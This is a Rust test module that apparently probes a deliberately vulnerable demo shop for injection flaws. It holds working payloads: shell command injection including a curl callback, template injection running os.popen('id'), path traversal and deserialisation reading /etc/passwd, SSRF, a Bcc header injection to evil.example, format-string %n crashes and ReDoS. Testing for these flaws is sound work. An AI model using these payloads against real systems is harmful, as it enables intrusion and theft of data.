//! Commands, programs, templates and files.

use reqwest::Method;
use serde_json::json;

use super::listener::CANARY;
use super::listener::Listener;
use crate::demo::client::Shop;
use crate::demo::client::encoded;

pub(super) async fn shows(id: &str, shop: &mut Shop) -> Option<bool> {
    Some(match id {
        "command-network-lookup" => command_with_output(shop).await,
        "command-invoice-mail" => command_without_output(shop).await,
        "code-quote-formula" => evaluated_formula(shop).await,
        "template-greeting-card" => rendered_message(shop).await,
        "expression-faq-topic" => evaluated_topic(shop).await,
        "format-gift-label" => format_of_a_label(shop).await,
        "ssi-guestbook" => directive_in_the_guestbook(shop).await,
        "file-inclusion-info" => included_file(shop).await,
        "path-traversal-manual" => manual_outside(shop).await,
        "deserialisation-preferences" => object_in_a_cookie(shop).await,
        "ssrf-image-import" => image_from_inside(shop).await,
        "ssrf-webhook-test" => webhook_to_inside(shop).await,
        "mail-header-message" => header_of_a_mail(shop).await,
        "redos-reference" => slow_pattern(shop).await,
        _ => return None,
    })
}

async fn command_with_output(shop: &mut Shop) -> bool {
    let plain = shop.get("/partners/network?host=depot.shop.example").await;
    assert!(plain.body.contains("192.0.2.40"), "{}", plain.body);
    let mut all = true;
    for attack in
        ["x; echo $((41*73))", "x | expr 41 '*' 73", "$(printf 29)93", "x`id`x\nexpr 2990 + 3"]
    {
        let answer = shop.get(&format!("/partners/network?host={}", encoded(attack))).await;
        assert_eq!(answer.status, 200);
        all &= answer.body.contains("2993");
    }
    all
}

async fn command_without_output(shop: &mut Shop) -> bool {
    let plain = shop.submit("/billing/copy", "/billing/copy", &[("email", "a@b.example")]).await;
    assert!(plain.body.contains("on its way"));
    let inside = Listener::start().await;
    let attack = format!("x\"; curl {}; echo \"", inside.url);
    let answer = shop.submit("/billing/copy", "/billing/copy", &[("email", &attack)]).await;
    assert!(!answer.body.contains(CANARY), "its output is not shown");
    inside.was_called()
}

async fn evaluated_formula(shop: &mut Shop) -> bool {
    let mut ask = async |quantity: &str| {
        let answer = shop.json(Method::POST, "/api/quote", &json!({ "quantity": quantity })).await;
        (answer.status, answer.body)
    };
    assert!(ask("4*6").await.1.contains("47760"));
    let (status, body) = ask("1 + len('abc')").await;
    let evaluated = status == 200 && body.contains("7960");
    let (status, body) = ask("1 +").await;
    assert_eq!(status == 500 && body.contains("Traceback"), evaluated, "{body}");
    let (_, body) = ask("1) ~ os.popen('id') ~ (''").await;
    assert_eq!(body.contains("uid=1000(shop)"), evaluated, "{body}");
    evaluated
}

async fn rendered_message(shop: &mut Shop) -> bool {
    let mut send = async |message: &str| {
        let fields = [("name", "Ann"), ("message", message)];
        shop.submit("/gifts/greeting", "/gifts/greeting", &fields).await.body
    };
    assert!(send("See you soon").await.contains("Dear Ann,\nSee you soon\nFern"));
    assert!(!send("<b id=canary>").await.contains("<b id=canary>"), "escaped in either twin");
    send("{{ 41 * 73 }}").await.contains("2993")
}

async fn evaluated_topic(shop: &mut Shop) -> bool {
    assert!(shop.get("/help/faq/returns").await.body.contains("Thirty days"));
    assert!(shop.get("/help/faq/colours").await.body.contains("<q>colours</q>"));
    let first = shop.get(&format!("/help/faq/{}", encoded("${41*73}"))).await.body.contains("2993");
    let second = shop.get(&format!("/help/faq/{}", encoded("a#{'b'.concat('c')}"))).await;
    assert_eq!(second.body.contains("<q>abc</q>"), first, "{}", second.body);
    first
}

async fn format_of_a_label(shop: &mut Shop) -> bool {
    assert!(shop.get("/gifts/label?text=For+you").await.body.contains(">For you</pre>"));
    let words = shop.get(&format!("/gifts/label?text={}", encoded("%08x.%08x"))).await;
    let crash = shop.get(&format!("/gifts/label?text={}", encoded("%s%s%s%s%n"))).await;
    assert_eq!(crash.status == 500, !words.body.contains(">%08x.%08x</pre>"));
    crash.body.contains("Segmentation fault")
}

async fn directive_in_the_guestbook(shop: &mut Shop) -> bool {
    let entry = "Lovely. <!--#exec cmd=\"id\" --><script>canary()</script>";
    let sent = shop
        .submit("/community/guestbook.shtml", "/community/guestbook", &[("entry", entry)])
        .await;
    assert_eq!((sent.status, sent.header("location")), (303, "/community/guestbook.shtml"));
    let page = shop.visitor().get("/community/guestbook.shtml").await;
    assert!(page.body.contains("Lovely. ") && !page.body.contains("<script>"), "{}", page.body);
    page.body.contains("uid=1000(shop)")
}

async fn included_file(shop: &mut Shop) -> bool {
    assert!(shop.get("/help/info?page=warranty.html").await.body.contains("Ten years"));
    let outside = shop.get(&format!("/help/info?page={}", encoded("../../../etc/passwd"))).await;
    let inside = Listener::start().await;
    let remote = shop.get(&format!("/help/info?page={}", encoded(&inside.url))).await;
    let included = outside.body.contains("root:x:0:0");
    assert_eq!((remote.body.contains(CANARY), inside.was_called()), (included, included));
    included
}

async fn manual_outside(shop: &mut Shop) -> bool {
    let mut ask = async |name: &str| {
        let answer = shop.json(Method::POST, "/api/manuals/check", &json!({ "name": name })).await;
        answer.json()["available"].as_bool().expect("a boolean")
    };
    assert!(ask("care.txt").await);
    assert!(!ask("../../../etc/nothing").await);
    ask("../../../etc/passwd").await
}

async fn object_in_a_cookie(shop: &mut Shop) -> bool {
    let first = shop.get("/my/preferences").await;
    assert!(first.body.contains("Theme: light"), "{}", first.body);
    let cookies: Vec<_> = first.headers.get_all("set-cookie").iter().collect();
    let is_offered = |cookie: &&reqwest::header::HeaderValue| {
        cookie.as_bytes().starts_with(b"preferences=a%3A2%3A%7B")
    };
    assert!(cookies.iter().any(is_offered), "{cookies:?}");
    let mut ask = async |value: &str| {
        let cookie = format!("preferences={}", encoded(value));
        shop.send(Method::GET, "/my/preferences", &[("cookie", &cookie)], "").await
    };
    let dark = ask("a:2:{s:5:\"theme\";s:4:\"dark\";s:4:\"rows\";i:9;}").await;
    assert!(dark.body.contains("Theme: dark"), "{}", dark.body);
    let broken = ask("a:2:{s:5:\"theme\";").await.body.contains("unserialize()");
    let object = ask("O:9:\"FileCache\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}").await;
    assert_eq!(object.body.contains("root:x:0:0"), broken, "{}", object.body);
    broken
}

async fn image_from_inside(shop: &mut Shop) -> bool {
    let mut import = async |url: &str| {
        shop.json(Method::POST, "/api/images/import", &json!({ "image_url": url })).await
    };
    let plain = import("https://images.shop.example/kettle.png").await;
    assert_eq!(plain.json()["status"], "queued");
    let inside = Listener::start().await;
    let answer = import(&inside.url).await;
    assert_eq!(answer.body.contains(CANARY), inside.was_called());
    let tricked = import(&inside.url.replace("http://", "http://images.shop.example@")).await;
    assert_eq!(tricked.body.contains(CANARY), inside.was_called());
    inside.was_called()
}

async fn webhook_to_inside(shop: &mut Shop) -> bool {
    let hook = "https://hooks.shop.example/orders";
    let plain =
        shop.submit("/partners/webhooks", "/partners/webhooks", &[("callback", hook)]).await;
    assert!(plain.body.contains("has been sent to"));
    let inside = Listener::start().await;
    let answer =
        shop.submit("/partners/webhooks", "/partners/webhooks", &[("callback", &inside.url)]).await;
    assert!(!answer.body.contains(CANARY));
    inside.was_called()
}

async fn header_of_a_mail(shop: &mut Shop) -> bool {
    let mut send = async |subject: &str| {
        let fields = [("email", "ann@b.example"), ("subject", subject), ("text", "Hello")];
        shop.submit("/contact/message", "/contact/message", &fields).await.body
    };
    assert!(send("A question").await.contains("Subject: A question"));
    let injected = send("Hi\r\nBcc: everybody@evil.example").await.contains("\nBcc: everybody@");
    assert_eq!(shop.get("/contact/outbox").await.body.contains("\nBcc: everybody@"), injected);
    assert!(
        !shop.visitor().get("/contact/outbox").await.body.contains("Bcc"),
        "one's own mails only"
    );
    injected
}

async fn slow_pattern(shop: &mut Shop) -> bool {
    let mut ask = async |reference: &str| {
        let body = json!({ "reference": reference });
        let answer = shop.json(Method::POST, "/api/reference/check", &body).await;
        let (_, rest) = answer.header("server-timing").split_once("total;dur=").expect("measured");
        let millis: f64 = rest.parse().expect("a number");
        (answer.json()["valid"].as_bool().expect("a boolean"), millis)
    };
    assert!(ask("order 17 blue").await.0);
    let (valid, short) = ask("aaaa!").await;
    assert!(!valid);
    let (valid, long) = ask(&("a".repeat(60) + "!")).await;
    assert!(!valid);
    // Without an end, were it not given up after seconds.
    long > 1000.0 && long > short * 5.0
}
